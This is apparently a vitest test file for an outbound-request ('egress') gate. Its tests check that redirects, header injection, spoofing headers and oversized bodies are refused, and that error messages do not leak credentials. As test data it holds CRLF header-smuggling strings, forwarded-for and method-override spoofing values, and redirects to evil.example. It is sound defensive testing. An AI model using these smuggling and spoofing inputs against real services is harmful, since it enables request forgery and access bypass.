import { describe, expect, test, vi } from "vitest";
import { createEgress, EgressRefusal } from "../../src/egress/egress.ts";
import { headerOf, type EgressServerRequest } from "../support/egress-server.ts";
import { countElsewhere, expectNothingSent, openEgress, other, refusalOf } from "./egress-client.ts";

describe("a redirect", () => {
  test.each([301, 302, 303, 307, 308, 300, 305])(
    "%i is refused and followed nowhere, to another host or the same",
    async (status) => {
      const { fetch, at, log } = openEgress();
      const elsewhere = await countElsewhere(async () => {
        for (const target of [`${other()}/collect`, at("echo"), "https://evil.example/", "//evil.example/"]) {
          const asked = fetch(at(`status/${status}?location=${encodeURIComponent(target)}`), {
            method: "POST",
            body: "a prompt",
          });
          // It may have been carried out: whoever answers like this has read it.
          expect(await refusalOf(asked)).toMatchObject({ code: "redirected", isRequestSent: true });
        }
      });
      expect((await log()).map(({ path }) => path.split("/")[3])).toEqual(Array(4).fill("status"));
      expect(elsewhere).toEqual({ connections: 0, bytes: 0 });
    },
  );

  test("is not followed where the caller wishes it", async () => {
    const { fetch, at, log } = openEgress();
    const url = at(`status/302?location=${encodeURIComponent(at("echo"))}`);
    expect(await refusalOf(fetch(url, { redirect: "follow" }))).toMatchObject({ code: "redirected" });
    expect(await refusalOf(fetch(new Request(url, { redirect: "follow" })))).toMatchObject({
      code: "redirected",
    });
    expect(await log()).toHaveLength(2);
  });

  test("is not what 'not modified' is, wherever that points", async () => {
    const { fetch, at, log } = openEgress();
    const elsewhere = await countElsewhere(async () => {
      const answer = await fetch(at(`status/304?location=${encodeURIComponent(other())}`), {
        headers: { "if-none-match": '"1"' },
      });
      expect(answer.status).toBe(304);
    });
    expect(await log()).toHaveLength(1);
    expect(elsewhere).toEqual({ connections: 0, bytes: 0 });
  });
});

describe("a request's headers", () => {
  test("go out as far as they are known, with the credential of the egress and no other", async () => {
    const { fetch, at, log } = openEgress({
      requestHeaders: ["mcp-session-id", "authorization"],
      authorise: (headers) => headers.set("authorization", "Bearer the-right-one"),
    });

    await fetch(at("echo"), {
      method: "POST",
      headers: {
        authorization: "Bearer the-caller's",
        "x-api-key": "the-caller's",
        "content-type": "application/json",
        accept: "application/json",
        "idempotency-key": "key-1",
        "mcp-session-id": "session-1",
        "x-unheard-of": "1",
        "stripe-account": "acct_of_somebody_else",
      },
      body: "{}",
    });

    const [request] = await log();
    expect(readHeaders(request)).toMatchObject({
      authorization: "Bearer the-right-one",
      "content-type": "application/json",
      accept: "application/json",
      "idempotency-key": "key-1",
      "mcp-session-id": "session-1",
    });
    expect(request?.rawHeaders.join()).not.toMatch(/caller's|unheard|somebody/);
  });

  test("without a credential of the egress, none goes out at all", async () => {
    const { fetch, at, log } = openEgress();
    await fetch(at("echo"), { headers: { authorization: "Bearer the-caller's" } });
    expect(headerOf((await log())[0]!, "authorization")).toBeNull();
  });

  test.each([
    ["host", "evil.example"],
    ["Host", "evil.example"],
    ["cookie", "session=1"],
    ["x-forwarded-for", "127.0.0.1"],
    ["x-forwarded-host", "evil.example"],
    ["forwarded", "for=127.0.0.1"],
    ["x-real-ip", "127.0.0.1"],
    ["x-http-method-override", "DELETE"],
    ["x-http-method", "DELETE"],
    ["x-method-override", "DELETE"],
    ["x-original-url", "/admin"],
    ["x-rewrite-url", "/admin"],
    ["transfer-encoding", "chunked"],
    ["te", "trailers"],
    ["trailer", "x-late"],
    ["upgrade", "websocket"],
    ["proxy-authorization", "Basic bWU6eW91"],
    ["cf-connecting-ip", "127.0.0.1"],
    ["accept", "text/html\r\nx-smuggled: 1"],
    ["accept", "text/html\nhost: evil.example"],
    ["x-a\r\nx-smuggled", "1"],
    ["accept: */*\r\nhost", "evil.example"],
    ["accept\0", "1"],
  ])("are refused where one could change whose or what it is: %j", async (name, value) => {
    const { fetch, at } = openEgress();
    await expectNothingSent(async () => {
      expect(await refusalOf(fetch(at("echo"), { headers: { [name]: value } }))).toMatchObject({
        code: "headerNotAllowed",
        isRequestSent: false,
      });
    });
  });

  test("nothing of the runtime's own settings goes along", async () => {
    const { fetch, at } = openEgress();
    const sent = vi.spyOn(globalThis, "fetch");
    await fetch(at("echo"), { cf: { resolveOverride: "evil.example" }, integrity: "x" });
    const init = sent.mock.calls.at(-1)?.[1];
    sent.mockRestore();
    expect(Object.keys(init ?? {}).toSorted()).toEqual(["body", "headers", "method", "redirect", "signal"]);
  });
});

describe("an answer", () => {
  test("comes without its cookies", async () => {
    const { fetch, at } = openEgress();
    const answer = await fetch(at("cookies"));
    expect(answer.headers.get("x-answer")).toBe("yes");
    expect(answer.headers.getSetCookie()).toEqual([]);
    expect(await answer.text()).toBe("welcome");
    expect(answer.url).toBe(at("cookies"));
  });

  test.each(["bytes", "sized", "zipped"])("of as many bytes as are allowed is read: %s", async (kind) => {
    const { fetch, at } = openEgress();
    expect(await (await fetch(at(`${kind}/1000`))).text()).toHaveLength(1_000);
  });

  test.each(["bytes", "zipped"])("of one byte more breaks off: %s", async (kind) => {
    const { fetch, at } = openEgress();
    const answer = await fetch(at(`${kind}/1001`));
    expect(await refusalOf(answer.text())).toMatchObject({ code: "responseTooLarge", isRequestSent: true });
  });

  test("that says it has one byte more is not read at all", async () => {
    const { fetch, at, log } = openEgress();
    expect(await refusalOf(fetch(at("claims/1001")))).toMatchObject({ code: "responseTooLarge" });
    await untilGivenUp(log);
  });

  test("without an end is left as soon as it is too large, and its server notices", async () => {
    const { fetch, at, log } = openEgress({ maxResponseBytes: 3 });
    expect(await refusalOf((await fetch(at("drip"))).text())).toMatchObject({ code: "responseTooLarge" });
    await untilGivenUp(log);
  });

  test("that drips is given up when the time is over, and its server notices", async () => {
    const { fetch, at, log } = openEgress({ timeoutMs: 1_000 });
    const answer = await fetch(at("drip"));
    expect(await refusalOf(answer.text())).toMatchObject({ code: "timeout", isRequestSent: true });
    await untilGivenUp(log);
  });

  test("that never comes is given up when the time is over", async () => {
    const { fetch, at } = openEgress({ timeoutMs: 200 });
    expect(await refusalOf(fetch(at("silent")))).toMatchObject({ code: "timeout", isRequestSent: true });
  });

  test("that breaks off is an error, not a short answer", async () => {
    const { fetch, at } = openEgress();
    await expect(fetch(at("cut/10")).then((answer) => answer.text())).rejects.toThrow();
  });

  test("is handed on while it comes, event by event", async () => {
    const { fetch, at, release } = openEgress();
    const answer = await fetch(at("events"));
    const reader = answer.body!.pipeThrough(new TextDecoderStream()).getReader();
    // Its server sends nothing more before it is told to.
    expect(await reader.read()).toEqual({ done: false, value: "data: first\n\n" });
    await release();
    expect(await reader.read()).toEqual({ done: false, value: "data: second\n\n" });
    expect((await reader.read()).done).toBe(true);
  });

  test("that its reader leaves is given up at the server too", async () => {
    const { fetch, at, log } = openEgress();
    await (await fetch(at("drip"))).body?.cancel();
    await untilGivenUp(log);
  });

  test("to HEAD has none, and its length is told", async () => {
    const { fetch, at } = openEgress();
    const answer = await fetch(at("sized/5000"), { method: "HEAD" });
    expect([answer.status, await answer.text()]).toEqual([200, ""]);
  });
});

describe("a request's body", () => {
  const sizes = { whole: "x".repeat(1_000), over: "x".repeat(1_001) };

  test.each([
    ["a text", (text: string) => text],
    ["bytes", (text: string) => new TextEncoder().encode(text)],
    ["a blob", (text: string) => new Blob([text])],
    ["a stream", (text: string) => streamOf(text)],
  ])("may be as large as is allowed and one byte more is not sent: %s", async (_, make) => {
    const { fetch, at, log } = openEgress();
    await fetch(at("echo"), { method: "POST", body: make(sizes.whole) });
    expect((await log())[0]?.body).toBe(sizes.whole);

    await expectNothingSent(async () => {
      expect(await refusalOf(fetch(at("echo"), { method: "POST", body: make(sizes.over) }))).toMatchObject({
        code: "requestTooLarge",
        isRequestSent: false,
      });
    });
  });

  test("that never ends is left when it is too large", async () => {
    const { fetch, at } = openEgress();
    let isLeft = false;
    const body = new ReadableStream<Uint8Array>({
      pull: (controller) => controller.enqueue(new Uint8Array(100)),
      cancel: () => void (isLeft = true),
    });
    expect(await refusalOf(fetch(at("echo"), { method: "POST", body }))).toMatchObject({
      code: "requestTooLarge",
      isRequestSent: false,
    });
    expect(isLeft).toBe(true);
  });

  test("that does not come is given up when the time is over, before anything is sent", async () => {
    const { fetch, at, log } = openEgress({ timeoutMs: 100 });
    const body = new ReadableStream<Uint8Array>({ pull: () => new Promise(() => {}) });
    expect(await refusalOf(fetch(at("echo"), { method: "POST", body }))).toMatchObject({
      code: "timeout",
      isRequestSent: false,
    });
    expect(await log()).toEqual([]);
  });

  test("says what it is, as it would without the egress", async () => {
    const { fetch, at, log } = openEgress();
    await fetch(at("echo"), { method: "POST", body: new URLSearchParams({ a: "b c" }) });
    await fetch(new Request(at("echo"), { method: "PUT", body: "{}", headers: { "content-type": "a/b" } }));
    const [form, request] = await log();
    expect([form?.body, readHeaders(form)["content-type"]]).toEqual([
      "a=b+c",
      expect.stringContaining("application/x-www-form-urlencoded"),
    ]);
    expect([request?.method, request?.body, readHeaders(request)["content-type"]]).toEqual([
      "PUT",
      "{}",
      "a/b",
    ]);
  });
});

describe("a caller that gives up", () => {
  test("before it leaves sends nothing and gets its own reason back", async () => {
    const { fetch, at, log } = openEgress();
    await expect(fetch(at("echo"), { signal: AbortSignal.abort(new Error("mine")) })).rejects.toThrow("mine");
    expect(await log()).toEqual([]);
  });

  test.each(["silent", "drip"])("while it waits gets its own reason back: %s", async (path) => {
    const { fetch, at } = openEgress();
    const asked = fetch(at(path), { signal: AbortSignal.timeout(100) }).then((answer) => answer.text());
    await expect(asked).rejects.toMatchObject({ name: "TimeoutError" });
  });
});

describe("a credential", () => {
  test("that was refused is asked for anew, once, and the whole request is sent again", async () => {
    const tokens = ["old", "new"];
    const sent: (string | null)[] = [];
    const { fetch, at, log } = openEgress({
      authorise: (headers) => headers.set("authorization", `Bearer ${tokens[0]}`),
      refreshCredential: async (headers) => {
        sent.push(headers.get("authorization"));
        tokens.shift();
        return true;
      },
    });

    const answer = await fetch(at("gated/new"), { method: "POST", body: streamOf("once") });

    expect([answer.status, await answer.text()]).toEqual([200, "in"]);
    expect(sent).toEqual(["Bearer old"]);
    expect((await log()).map(({ body }) => body)).toEqual(["once", "once"]);
  });

  test.each([
    ["there is no better one", async () => false, 1],
    ["asking for one breaks", () => Promise.reject(new Error("broken")), 1],
    ["the new one is refused as well", async () => true, 2],
  ])("that is refused is the answer where %s", async (_, refreshCredential, requests) => {
    const { fetch, at, log } = openEgress({
      authorise: (headers) => headers.set("authorization", "Bearer old"),
      refreshCredential,
    });
    const answer = await fetch(at("gated/new"));
    expect([answer.status, await answer.text()]).toEqual([401, "out"]);
    expect(await log()).toHaveLength(requests);
  });

  test.each([
    ["breaks", () => Promise.reject(new Error("canary-secret")), "credentialUnavailable"],
    [
      "makes no header",
      (headers: Headers) => headers.set("authorization", "a\r\nb"),
      "credentialUnavailable",
    ],
    [
      "says why there is none",
      () => {
        throw new EgressRefusal({ code: "credentialAbsent", host: "probe", isRequestSent: false });
      },
      "credentialAbsent",
    ],
  ])("that %s keeps the request here", async (_, authorise, code) => {
    const { fetch, at, log } = openEgress({ authorise });
    expect(await refusalOf(fetch(at("echo")))).toMatchObject({ code, isRequestSent: false });
    expect(await log()).toEqual([]);
  });

  test("that is never found keeps the request here until the time is over", async () => {
    const { fetch, at, log } = openEgress({ timeoutMs: 100, authorise: () => new Promise(() => {}) });
    expect(await refusalOf(fetch(at("echo")))).toMatchObject({ code: "timeout", isRequestSent: false });
    expect(await log()).toEqual([]);
  });
});

describe("a refusal", () => {
  test("says the code and the host, and nothing of path, query, headers or body", async () => {
    const lines: string[] = [];
    const spies = (["log", "info", "warn", "error"] as const).map((level) =>
      vi.spyOn(console, level).mockImplementation((...words) => void lines.push(words.join(" "))),
    );
    const { fetch, at } = openEgress({
      maxRequestBytes: 3,
      timeoutMs: 100,
      authorise: (headers) => headers.set("authorization", "Bearer canary-token"),
    });
    const attempts: (() => Promise<unknown>)[] = [
      () => fetch("https://evil.example/canary-path?token=canary-query"),
      () => fetch("https://canary-name:canary-password@api.github.com/"),
      () => fetch(at("silent?token=canary-query")),
      () => fetch(at("status/302?location=canary-location")),
      () => fetch(at("echo"), { method: "POST", body: "canary-body" }),
      () => fetch(at("echo"), { headers: { cookie: "canary-cookie" } }),
      () => fetch(at("echo"), { headers: { accept: "canary\r\nheader" } }),
    ];
    for (const attempt of attempts) {
      const error = await attempt().then(
        () => null,
        (reason: unknown) => reason,
      );
      expect(error).toBeInstanceOf(EgressRefusal);
      const { message, stack, cause } = error as EgressRefusal;
      expect(`${message} ${stack} ${JSON.stringify(error)} ${String(cause)}`).not.toContain("canary");
      expect(message).toMatch(/^[a-zA-Z]+ \([a-z0-9.:]+\)$/);
    }
    for (const spy of spies) spy.mockRestore();
    expect(lines).toHaveLength(attempts.length);
    expect(lines.join("\n")).not.toContain("canary");
  });

  test("to a server that is not there says that it may have been sent", async () => {
    const origin = "http://127.0.0.1:1";
    const nowhere = createEgress({
      tenantId: "acme",
      connector: "probe",
      allow: [{ origin, paths: ["/"] }],
      timeoutMs: 2_000,
      maxRequestBytes: 10,
      maxResponseBytes: 10,
      isLocal: true,
    });
    expect(await refusalOf(nowhere(`${origin}/`))).toMatchObject({
      code: "connectionFailed",
      isRequestSent: true,
    });
  });
});

function readHeaders(request: EgressServerRequest | undefined): Record<string, string> {
  const { rawHeaders = [] } = request ?? {};
  const pairs: [string, string][] = [];
  for (let at = 0; at < rawHeaders.length; at += 2) {
    pairs.push([rawHeaders[at]!.toLowerCase(), rawHeaders[at + 1]!]);
  }
  return Object.fromEntries(pairs);
}

/** The server has seen that nobody waits for the rest of its answer. */
async function untilGivenUp(log: () => Promise<EgressServerRequest[]>): Promise<void> {
  const isGivenUp = async () => expect((await log())[0]?.isGivenUp).toBe(true);
  await vi.waitFor(isGivenUp, { timeout: 10_000 });
}

function streamOf(text: string): ReadableStream<Uint8Array> {
  return new Blob([text]).stream();
}
